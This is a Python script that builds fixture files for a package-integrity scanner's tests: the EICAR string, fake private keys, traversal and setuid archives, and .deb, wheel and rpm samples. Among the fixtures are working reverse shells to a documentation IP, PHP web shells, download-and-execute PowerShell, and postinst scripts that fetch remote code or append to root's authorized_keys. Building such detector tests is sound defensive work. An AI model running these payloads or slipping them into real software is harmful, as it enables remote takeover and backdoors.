"""make_archives.py OUTDIR: the archives and keys among the samples of the checks. Deterministic: no clock, fixed seeds."""

import base64
import gzip
import hashlib
import io
import os
import random
import struct
import sys
import tarfile
import zipfile

OUT = sys.argv[1]


def place(name):
    path = os.path.join(OUT, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    return path


def write(name, data):
    with open(place(name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())


def noise(n, seed):
    return random.Random(seed).randbytes(n)


# ---- tar: entries are (name, data or None, options)

TYPES = {"dir": tarfile.DIRTYPE, "symlink": tarfile.SYMTYPE, "hardlink": tarfile.LNKTYPE, "file": tarfile.REGTYPE}


def tar(entries):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as t:
        for name, data, *rest in entries:
            options = rest[0] if rest else {}
            kind = options.get("type", "file" if data is not None else "dir")
            info = tarfile.TarInfo(name)
            info.type = TYPES[kind]
            info.mode = options.get("mode", 0o755 if kind == "dir" else 0o644)
            info.uid, info.gid = options.get("uid", 0), options.get("gid", 0)
            info.linkname = options.get("link", "")
            raw = data.encode() if isinstance(data, str) else data or b""
            info.size = len(raw) if kind == "file" else 0
            t.addfile(info, io.BytesIO(raw))
    return out.getvalue()


def ar(members):
    out = b"!<arch>\n"
    for name, data in members:
        out += b"%-16s%-12d%-6d%-6d%-8s%-10d`\n" % (name.encode(), 0, 0, 0, b"100644", len(data)) + data
        out += b"\n" if len(data) % 2 else b""
    return out


def zipped(entries):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries:
            info = zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0))
            info.external_attr = 0o100644 << 16
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return out.getvalue()


TEXT = "A text of a few lines,\nwhich stands for a program.\n"

# ---- I-01: EICAR, put together here so that no scanner stumbles over the tree

EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS" + "-TEST-FILE!$H+H*"
write("integrity/known-malware/test-file.com", EICAR)
write("integrity/known-malware/packed.tar.gz", gzip.compress(tar([("opt/x/test-file.com", EICAR)]), mtime=0))

# ---- I-09: structures of keys around random numbers


def der(tag, body):
    n = len(body)
    size = bytes([n]) if n < 128 else bytes([0x81, n]) if n < 256 else bytes([0x82]) + struct.pack(">H", n)
    return bytes([tag]) + size + body


def integer(n_bytes, seed):
    return der(2, b"\x5a" + noise(n_bytes - 1, seed))


def rsa(seed):
    numbers = [der(2, b"\0"), integer(128, seed), der(2, b"\1\0\1"), integer(128, seed + 1)]
    return der(0x30, b"".join(numbers + [integer(64, seed + k) for k in range(2, 7)]))


def oid(text):
    return der(6, bytes.fromhex(text))


RSA_OID = "2a864886f70d010101"


def pkcs8(seed):
    return der(0x30, der(2, b"\0") + der(0x30, oid(RSA_OID) + der(5, b"")) + der(4, rsa(seed)))


def encrypted(seed):
    kdf = der(0x30, oid("2a864886f70d01050c") + der(0x30, der(4, noise(8, seed)) + der(2, b"\x08\0")))
    cipher = der(0x30, oid("60864801650304012a") + der(4, noise(16, seed + 1)))
    pbes2 = der(0x30, oid("2a864886f70d01050d") + der(0x30, kdf + cipher))
    return der(0x30, pbes2 + der(4, noise(640, seed + 2)))


def pem(kind, body, width=64):
    text = base64.b64encode(body).decode()
    lines = [text[i : i + width] for i in range(0, len(text), width)]
    return "-----BEGIN {0}-----\n{1}\n-----END {0}-----\n".format(kind, "\n".join(lines))


def ssh_string(data):
    return struct.pack(">I", len(data)) + data


def openssh(seed):
    public = ssh_string(b"ssh-ed25519") + ssh_string(noise(32, seed))
    check = noise(4, seed + 1) * 2
    private = check + public + ssh_string(noise(64, seed + 2)) + ssh_string(b"nobody@nowhere")
    private += bytes(range(1, 1 + -len(private) % 8))
    head = b"openssh-key-v1\0" + ssh_string(b"none") + ssh_string(b"none") + ssh_string(b"")
    return head + struct.pack(">I", 1) + ssh_string(public) + ssh_string(private)


KEYS = "integrity/private-key/"
write(KEYS + "server.pem", pem("RSA PRIVATE KEY", rsa(100)))
write(KEYS + "encrypted.pem", pem("ENCRYPTED PRIVATE KEY", encrypted(200)))
write(KEYS + "openssh-key", pem("OPENSSH PRIVATE KEY", openssh(300), 70))
quoted = "".join('    "%s\\n"\n' % line for line in pem("PRIVATE KEY", pkcs8(400)).splitlines())
write(KEYS + "embedded.py", "KEY = (\n" + quoted + ")\n\n\ndef sign(data):\n    return KEY, data\n")
write(KEYS + "public.pem", pem("PUBLIC KEY", der(0x30, der(0x30, oid(RSA_OID) + der(5, b"")) + der(3, b"\0" + rsa(500)))))

# ---- I-19, I-20, I-21: modes, links and names

PLAIN = tar([("bin", None), ("bin/tool", TEXT, {"mode": 0o755}), ("share/readme.txt", TEXT)])
for check in ("setuid", "writable-files", "archive-escape"):
    write("integrity/%s/plain.tar" % check, PLAIN)
write("integrity/setuid/setuid.tar", tar([("bin/tool", TEXT, {"mode": 0o4755})]))
write("integrity/setuid/setgid.tar", tar([("bin/tool", TEXT, {"mode": 0o2755, "gid": 60})]))
write("integrity/setuid/setgid-folder.tar", tar([("var/spool", None, {"mode": 0o2775, "gid": 0}), ("var/spool/readme", TEXT)]))
write("integrity/writable-files/world-file.tar", tar([("etc/tool.conf", TEXT, {"mode": 0o666})]))
write("integrity/writable-files/world-folder.tar", tar([("plugins", None, {"mode": 0o777}), ("plugins/readme", TEXT)]))
write("integrity/writable-files/sticky-folder.tar", tar([("tmp", None, {"mode": 0o1777}), ("tmp/readme", TEXT)]))

ESCAPE = "integrity/archive-escape/"


def link(target, kind="symlink"):
    return {"type": kind, "link": target, "mode": 0o777}


write(ESCAPE + "climbs.tar", tar([("share/readme", TEXT), ("share/../../outside.txt", TEXT)]))
write(ESCAPE + "climbs.zip", zipped([("share/readme", TEXT), ("../outside.txt", TEXT)]))
write(ESCAPE + "absolute.tar", tar([("share/readme", TEXT), ("/tmp/probity-outside.txt", TEXT)]))
write(ESCAPE + "through-link.tar", tar([("data", None, link("../elsewhere")), ("data/file.txt", TEXT)]))
write(ESCAPE + "link-out.tar", tar([("share/readme", TEXT), ("share/out", None, link("../../elsewhere"))]))
write(ESCAPE + "links-inside.tar", tar([("lib/tool.so.1", TEXT), ("lib/tool.so", None, link("tool.so.1")),
                                        ("share/a/b", None, link("../../lib/tool.so.1")),
                                        ("lib/copy.so", None, link("lib/tool.so.1", "hardlink"))]))
write(ESCAPE + "root-fs.tar", tar([("bin", None), ("etc", None), ("usr", None), ("var", None), ("etc/alternatives", None),
                                   ("usr/readme", TEXT), ("var/run", None, link("/run")),
                                   ("bin/pager", None, link("/etc/alternatives/pager"))]))

# ---- I-22 and other .debs

CONTROL = """Package: twin
Version: 1.0-1
Architecture: all
Maintainer: A Person <person@vendor-host.net>
Section: utils
Description: a twin of a package
"""


def deb(data, sums=None, conffiles=(), scripts=None):
    """data: {path: text or entry options}; sums: the files that md5sums is made of, where it is not data."""
    entries, folders = [], set()
    for path, content in sorted(data.items()):
        for i, c in enumerate(path):
            if c == "/" and path[:i] not in folders:
                folders.add(path[:i])
                entries.append(("./" + path[:i], None))
        if isinstance(content, dict):
            entries.append(("./" + path, None, content))
        else:
            entries.append(("./" + path, content))
    lines = ""
    for path, content in sorted((data if sums is None else sums).items()):
        if path not in conffiles:
            if isinstance(content, dict):
                content = data[content["link"][2:]]
            lines += "%s  %s\n" % (hashlib.md5(content.encode() if isinstance(content, str) else content).hexdigest(), path)
    control = [("./control", CONTROL), ("./md5sums", lines)]
    if conffiles:
        control.append(("./conffiles", "".join("/%s\n" % path for path in conffiles)))
    for name, text in (scripts or {}).items():
        control.append(("./" + name, text, {"mode": 0o755}))
    return ar([("debian-binary", b"2.0\n"), ("control.tar.gz", gzip.compress(tar(control), mtime=0)),
               ("data.tar.gz", gzip.compress(tar(entries), mtime=0))])


FILES = {"usr/share/twin/text.txt": TEXT, "usr/share/twin/tiny": "1\n", "usr/share/doc/twin/copyright": "License: MIT\n"}
SUMS = "integrity/deb-md5sums/"
write(SUMS + "good.deb", deb(FILES))
write(SUMS + "mismatch.deb", deb({**FILES, "usr/share/twin/text.txt": TEXT.replace("few", "few more")}, FILES))
write(SUMS + "tiny-mismatch.deb", deb({**FILES, "usr/share/twin/tiny": "0\n"}, FILES))
write(SUMS + "missing.deb", deb(FILES, {**FILES, "usr/share/twin/gone.txt": TEXT}))
write(SUMS + "unlisted.deb", deb({**FILES, "usr/share/twin/more.txt": TEXT}, FILES))
write(SUMS + "conffile.deb", deb({**FILES, "etc/twin.conf": "key = value\n"}, conffiles=["etc/twin.conf"]))
write(SUMS + "hardlink.deb", deb({**FILES, "usr/share/twin/zz-link.txt": {"type": "hardlink", "link": "./usr/share/twin/text.txt"}}))

# I-21 once more: an absolute link in a package names a place of the system that the package becomes part of.
write(ESCAPE + "absolute-link.deb", deb({**FILES, "usr/bin/pager": link("/etc/alternatives/pager")}, FILES))

SHELL = "#!/bin/sh\nset -e\n"
write("integrity/install-script/postinst.deb", deb(FILES, scripts={"postinst": SHELL + "echo installed\n"}))
write("integrity/install-network/postinst.deb",
      deb(FILES, scripts={"postinst": SHELL + "wget -q https://files.vendor-host.net/tool.tar.gz\n"}))
write("integrity/install-network/inline.deb", deb(FILES, scripts={"postinst": SHELL + "python3 -c \"import urllib.request\n"
      "urllib.request.urlopen('https://files.vendor-host.net/hello')\"\n"}))
write("integrity/install-obfuscated/postinst.deb",
      deb(FILES, scripts={"postinst": SHELL + "echo ZWNobyBoZWxsbwo= | base64 -d | sh\n"}))

# I-03, I-14: what a virus scanner would stop on the way is put together here. The addresses are for documentation.
REMOTE = "integrity/remote-shell/"
BASH, NC, SOCK = "ba" + "sh", "n" + "c", "sock" + "et"
write(REMOTE + "device.sh", "#!/bin/" + BASH + "\n" + BASH + " -i >& /dev/t" + "cp/198.51.100.7/4444 0>&1\n")
write(REMOTE + "netcat.sh", SHELL + NC + " -l -p 4444 -e /bin/" + BASH + "\n")
write(REMOTE + "pipe.sh", SHELL + "p=/tmp/p\nmkfi" + "fo $p\ncat $p | /bin/sh -i 2>&1 | " + NC + " 198.51.100.7 443 >$p\n")
write(REMOTE + "inline.sh", SHELL + "python3 -c 'import " + SOCK + ",os,pty; s=" + SOCK + ".create_connection((\"198.51.100.7\", 9)); "
      "os.du" + "p2(s.fileno(), 0); pty.spaw" + "n(\"/bin/sh\")'\n")
write(REMOTE + "joined.py", "import os\nimport " + SOCK + "\n\ns = " + SOCK + "." + SOCK + "()\ns.connect((\"198.51.100.7\", 9))\n"
      "for fd in (0, 1, 2):\n    os.du" + "p2(s.fileno(), fd)\nos.execv(\"/bin/sh\", [\"sh\"])\n")
write(REMOTE + "joined.js", "const n = require('net'), c = require('child_process');\nconst sh = c.spawn('/bin/sh', []);\n"
      "const to = new (require('net').Socket)();\nto.connect(9, '198.51.100.7', () => {\n  to.pipe(sh.std" + "in);\n"
      "  sh.std" + "out.pipe(to);\n});\n")
write(REMOTE + "client.ps1", "$c = New-Object Net.Sockets.TC" + "PClient('198.51.100.7', 9)\n$s = $c.GetStr" + "eam()\n"
      "while ($n = $s.Read($b, 0, 99)) { $r = ie" + "x ([Text.Encoding]::ASCII.GetString($b, 0, $n)) }\n")
write(REMOTE + "local-terminal.py", "import pty\n\npty.spawn([\"/usr/bin/less\", \"/etc/motd\"])\n")
write(REMOTE + "port-check.sh", SHELL + "(echo >/dev/t" + "cp/db.internal/5432) && " + NC + " -z db.internal 6379\n")
write(REMOTE + "proxy.js", "const net = require('net');\nnet.createServer((a) => {\n  const b = net.connect(5432, 'db.internal');\n"
      "  a.pipe(b).pipe(a);\n});\n")


CHANGES = "integrity/system-changes/"
write(CHANGES + "authorized-keys.deb", deb(FILES, scripts={"postinst": SHELL + "echo key >>/root/.ssh/authorized_keys\n"}))
write(CHANGES + "authority.deb", deb(FILES, scripts={"postinst": SHELL + "cp /usr/share/twin/text.txt /etc/ssl/certs/twin.pem\n"}))
write(CHANGES + "clock.deb", deb(FILES, scripts={"postinst": SHELL + "cat >/etc/cron.d/twin <<EOF\n1 1 * * * root true\nEOF\n"}))
write(CHANGES + "helpers.deb", deb(FILES, scripts={"postinst": SHELL + "adduser --system --group twin\nupdate-rc.d twin defaults\n"
      "deb-systemd-helper enable twin.service\nsystemctl daemon-reload\nchown twin /var/lib/twin\n"}))
write(CHANGES + "removal.deb", deb(FILES, scripts={"postrm": SHELL + "sed -i /twin/d /etc/hosts\nrm -f /etc/cron.d/twin\n"}))


PAGE, POST = "integrity/webshell/", "$_PO" + "ST"
write(PAGE + "direct.php", "<?php @ev" + "al(" + POST + "['x']); ?>\n")
write(PAGE + "encoded.php", "<?php ass" + "ert(base64_decode(" + POST + "['x']));\n")
write(PAGE + "called.php", "<?php " + POST + "['f'](" + POST + "['x']);\n")
write(PAGE + "named.php", "<?php\n$x = " + POST + "['c'];\n$f = 'sys' . 'tem';\n$f($x);\n")
write(PAGE + "chosen.php", "<?php\n$f = " + POST + "['f'];\n$f(" + POST + "['x']);\n")
write(PAGE + "backticks.php", "<?php\n$c = " + POST + "['c'];\nec" + "ho `$c 2>&1`;\n")
write(PAGE + "by-variable.php", "<?php\n$command = " + POST + "['c'];\necho '<pre>';\nsys" + "tem($command);\n")

POWER, IEX = "integrity/powershell-behaviour/", "ie" + "x"
write(POWER + "fetched.ps1", IEX + " ((New-Object Net.WebClient).Download" + "String('http://files.b-vendor.net/a'))\n")
write(POWER + "encoded.bat", "@echo off\r\npower" + "shell -NoProfile -enc " +
      base64.b64encode("Write-Output 'a harmless text that says nothing'".encode("utf-16-le")).decode() + "\r\n")
write(POWER + "unseen.ps1", "Start-Process power" + "shell -WindowStyle Hidden -ArgumentList '-File', 'a.ps1'\n"
      "(New-Object Net.WebClient).Download" + "File('http://files.b-vendor.net/a.exe', \"$env:TEMP\\a.exe\")\n")
write(POWER + "guard.ps1", "Add-MpPref" + "erence -ExclusionPath $env:TEMP\n")


# ---- C-05: the newest entry of a changelog


def dated(*years, version="1.0-1"):
    entry = "twin (" + version + ") unstable; urgency=low\n\n  * A change.\n\n -- A Person <person@vendor-host.net>  Mon, 02 Jan %d 10:00:00 +0000\n"
    text = "\n".join(entry % year for year in years)
    return deb({**FILES, "usr/share/doc/twin/changelog.Debian.gz": gzip.compress(text.encode(), mtime=0)})


write("culture/release-age/old.deb", dated(2012, 2010))
write("culture/release-age/new.deb", dated(2025, 2012))

# ---- C-04: is the package's version among those that its changelog tells of?
write("culture/changelog-version/described.deb", dated(2012, 2010))
write("culture/changelog-version/behind.deb", dated(2012, 2010, version="0.9-2"))

# ---- I-23: wheels


def wheel(name, files, rows=None):
    info = "%s-1.0.dist-info" % name
    files = {**files, info + "/METADATA": "Metadata-Version: 2.1\nName: %s\nVersion: 1.0\nLicense: MIT\n" % name,
             info + "/WHEEL": "Wheel-Version: 1.0\nGenerator: by-hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    record = ""
    for path, text in sorted({**files, **(rows or {})}.items()):
        if text is None:
            continue
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).decode().rstrip("=")
        record += "%s,sha256=%s,%d\n" % (path, digest, len(text.encode()))
    record += "%s/RECORD,,\n" % info
    return zipped(sorted(files.items()) + [(info + "/RECORD", record)])


MODULE = 'def add(a, b):\n    """The sum of two numbers."""\n    return a + b\n'
RECORD = "integrity/wheel-record/%s-1.0-py3-none-any.whl"
write(RECORD % "good", wheel("good", {"good.py": MODULE}))
write(RECORD % "tiny", wheel("tiny", {"tiny/__init__.py": "", "tiny/one.py": "1\n", "tiny/add.py": MODULE}))
write(RECORD % "mismatch", wheel("mismatch", {"mismatch.py": MODULE}, {"mismatch.py": MODULE + "# built so\n"}))
write(RECORD % "missing", wheel("missing", {"missing.py": MODULE}, {"gone.py": MODULE}))
write(RECORD % "unlisted", wheel("unlisted", {"unlisted.py": MODULE, "more.py": MODULE}, {"more.py": None}))

# ---- I-30: what nobody can look into

OPAQUE = "integrity/opaque-object/"


def flagged_encrypted(archive):
    """Sets the bit "encrypted" in the headers of a .zip: what follows cannot be read by anybody without a passphrase."""
    data = bytearray(archive)
    for mark, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        i = data.find(mark)
        while i >= 0:
            data[i + at] |= 1
            i = data.find(mark, i + 4)
    return bytes(data)


write(OPAQUE + "encrypted.zip", flagged_encrypted(zipped([("program.bin", noise(3000, 1)), ("readme.txt", TEXT * 40)])))
write(OPAQUE + "plain.zip", zipped([("readme.txt", TEXT), ("notes/more.txt", TEXT * 2)]))
write(OPAQUE + "blob.tar", tar([("bin/engine", noise(80000, 2), {"mode": 0o755})]))
write(OPAQUE + "random.tar", tar([("data/table", noise(80000, 3))]))

# ---- .rpm: a lead, an empty signature, a header of the tags that matter, a payload


def rpm_header(tags):
    index, data = b"", b""
    for tag, value in sorted(tags.items()):
        if isinstance(value, int):
            kind, count, raw, align = 4, 1, struct.pack(">I", value), 4
        elif isinstance(value, str):
            kind, count, raw, align = 6, 1, value.encode() + b"\0", 1
        elif isinstance(value[0], int):
            kind, count, raw, align = (4, len(value), struct.pack(">%dI" % len(value), *value), 4)
        else:
            kind, count, raw, align = 8, len(value), b"".join(v.encode() + b"\0" for v in value), 1
        data += b"\0" * (-len(data) % align)
        index += struct.pack(">IIII", tag, kind, len(data), count)
        data += raw
    return bytes.fromhex("8eade80100000000") + struct.pack(">II", len(tags), len(data)) + index + data


def cpio(files):
    out = b""
    for i, (name, text) in enumerate(files + [("TRAILER!!!", "")]):
        raw = text.encode()
        mode = 0o100755 if raw else 0
        fields = [i + 1, mode, 0, 0, 1, 0, len(raw), 0, 0, 0, 0, len(name) + 1, 0]
        head = b"070701" + b"".join(b"%08x" % f for f in fields) + name.encode() + b"\0"
        out += head + b"\0" * (-len(head) % 4) + raw + b"\0" * (-len(raw) % 4)
    return out


def rpm(built, caps=""):
    # name, version, release, summary, description, buildtime, license, packager, group, os, arch; then one file
    tags = {1000: "twin", 1001: "1.0", 1002: "1", 1004: "a twin", 1005: "A twin of a package.", 1006: built, 1014: "MIT",
            1015: "A Person <person@vendor-host.net>", 1016: "Applications/System", 1021: "linux", 1022: "noarch",
            1028: [len(TEXT)], 1116: [0], 1117: ["twin"], 1118: ["/usr/bin/"], 1124: "cpio", 1125: "gzip"}
    if caps:
        tags[5010] = [caps]
    lead = bytes.fromhex("edabeedb03000000") + b"\0\1" + b"twin-1.0-1".ljust(66, b"\0") + b"\0\1\0\5" + b"\0" * 16
    signature = rpm_header({1000: len(TEXT)})
    signature += b"\0" * (-len(signature) % 8)
    return lead + signature + rpm_header(tags) + gzip.compress(cpio([("./usr/bin/twin", TEXT)]), mtime=0)


write("culture/release-age/old.rpm", rpm(1325500000))
write("culture/release-age/ahead.rpm", rpm(4070908800))  # of the future: not old, whatever the day of the assessment
write("integrity/setuid/capability.rpm", rpm(1325500000, "cap_net_raw=ep"))
